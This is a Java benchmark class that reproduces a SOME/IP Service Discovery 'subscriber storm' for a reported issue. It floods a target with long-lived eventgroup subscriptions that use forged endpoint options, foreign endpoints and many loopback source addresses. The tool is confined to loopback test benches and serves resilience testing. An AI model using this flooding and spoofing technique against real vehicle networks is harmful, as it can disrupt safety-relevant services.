package io.vehicle.launcher.tools.bench;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.ByteBufUtil;
import io.netty.buffer.UnpooledByteBufAllocator;
import io.vehicle.someip.sd.message.Ipv4EndpointOption;
import io.vehicle.someip.sd.message.Ipv4SdEndpointOption;
import io.vehicle.someip.sd.message.SdCodec;
import io.vehicle.someip.sd.message.SdEntry;
import io.vehicle.someip.sd.message.SdMessage;
import io.vehicle.someip.sd.message.SdOption;
import io.vehicle.someip.sd.message.SubscribeEventgroup;
import io.vehicle.someip.sd.message.TransportProtocol;
import io.vehicle.someip.wire.SomeIpCodec;
import io.vehicle.someip.wire.SomeIpMessage;
import java.io.IOException;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.StandardProtocolFamily;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;

/**
 * The subscriber storm of issue #12 (attack 1), for the benchmark and the test that reproduce it:
 * SubscribeEventgroup entries with TTL 0xFFFFFF and dead event endpoints, in the three forms an
 * attacker on the segment has, 45 % / 45 % / 10 %:
 * <ol>
 *   <li>from one socket, each message with an SD Endpoint Option claiming another host as its
 *       sender (the form the issue reports);</li>
 *   <li>from one socket, 20 entries a message naming other hosts' event endpoints;</li>
 *   <li>from a new socket on a new address each (as with spoofed source addresses), naming a dead
 *       port on its own address.</li>
 * </ol>
 * Attack traffic for loopback test benches only: it sends from 127.0.0.66, 127.10.x.y and
 * 127.66.x.y.
 */
public final class SubscriptionStorm {

    private final InetSocketAddress target;
    private final int serviceId;
    private final int instanceId;
    private final int majorVersion;
    private final int eventgroupId;
    private int session;

    /** A storm against the SD unicast socket {@code target} about that eventgroup of that instance. */
    public SubscriptionStorm(InetSocketAddress target, int serviceId, int instanceId, int majorVersion,
                             int eventgroupId) {
        this.target = target;
        this.serviceId = serviceId;
        this.instanceId = instanceId;
        this.majorVersion = majorVersion;
        this.eventgroupId = eventgroupId;
    }

    /** An address no one listens on: 127.10.x.y. */
    static Inet4Address dead(int i) throws IOException {
        return (Inet4Address) InetAddress.getByName("127.10." + (i / 250) % 250 + "." + (1 + i % 250));
    }

    /**
     * Sends {@code entries} subscriptions (a multiple of 20) at about {@code perSecond} entries a
     * second; returns how many it sent.
     */
    public int send(int entries, long perSecond) throws IOException {
        long start = System.nanoTime();
        int sent = 0;
        int forged = entries * 45 / 100;
        int foreign = entries * 45 / 100 / 20 * 20;
        try (DatagramChannel attacker = DatagramChannel.open(StandardProtocolFamily.INET)
                .bind(new InetSocketAddress("127.0.0.66", 0))) {
            for (int i = 0; i < forged; i++) {
                attacker.send(sd(List.of(new Ipv4SdEndpointOption(dead(i), TransportProtocol.UDP, 30490)),
                        subscribe(new InetSocketAddress(dead(i), 40_000))), target);
                sent = pace(start, ++sent, perSecond);
            }
            for (int i = 0; i < foreign; i += 20) {
                SdEntry[] batch = new SdEntry[20];
                for (int k = 0; k < 20; k++) {
                    batch[k] = subscribe(new InetSocketAddress(dead(i + k), 40_000 + k));
                }
                attacker.send(sd(List.of(), batch), target);
                sent = pace(start, sent + 20, perSecond);
            }
        }
        for (int i = 0; sent < entries; i++) {
            InetAddress own = InetAddress.getByName("127.66." + (1 + i / 250 % 250) + "." + (1 + i % 250));
            try (DatagramChannel sender = DatagramChannel.open(StandardProtocolFamily.INET)
                    .bind(new InetSocketAddress(own, 0))) {
                sender.send(sd(List.of(), subscribe(new InetSocketAddress(own, 9))), target);
            }
            sent = pace(start, ++sent, perSecond);
        }
        return sent;
    }

    /** Waits until {@code sent} entries are due at {@code perSecond} (0: no wait); returns {@code sent}. */
    private static int pace(long start, int sent, long perSecond) {
        if (perSecond > 0) {
            long due = start + TimeUnit.SECONDS.toNanos(1) * sent / perSecond;
            long wait = due - System.nanoTime();
            if (wait > 0) {
                LockSupport.parkNanos(wait);
            }
        }
        return sent;
    }

    private SubscribeEventgroup subscribe(InetSocketAddress eventsTo) {
        return new SubscribeEventgroup(serviceId, instanceId, majorVersion, SdEntry.TTL_UNTIL_REBOOT, false, 0,
                eventgroupId, List.of(new Ipv4EndpointOption((Inet4Address) eventsTo.getAddress(),
                TransportProtocol.UDP, eventsTo.getPort())));
    }

    private ByteBuffer sd(List<SdOption> messageOptions, SdEntry... entries) {
        session = session % 0xFFFF + 1;
        SomeIpMessage message = SdCodec.encodeMessage(new SdMessage(true, true, false, List.of(entries),
                messageOptions), session, UnpooledByteBufAllocator.DEFAULT);
        ByteBuf wire = SomeIpCodec.encode(message, UnpooledByteBufAllocator.DEFAULT);
        try {
            return ByteBuffer.wrap(ByteBufUtil.getBytes(wire));
        } finally {
            wire.release();
            message.release();
        }
    }
}
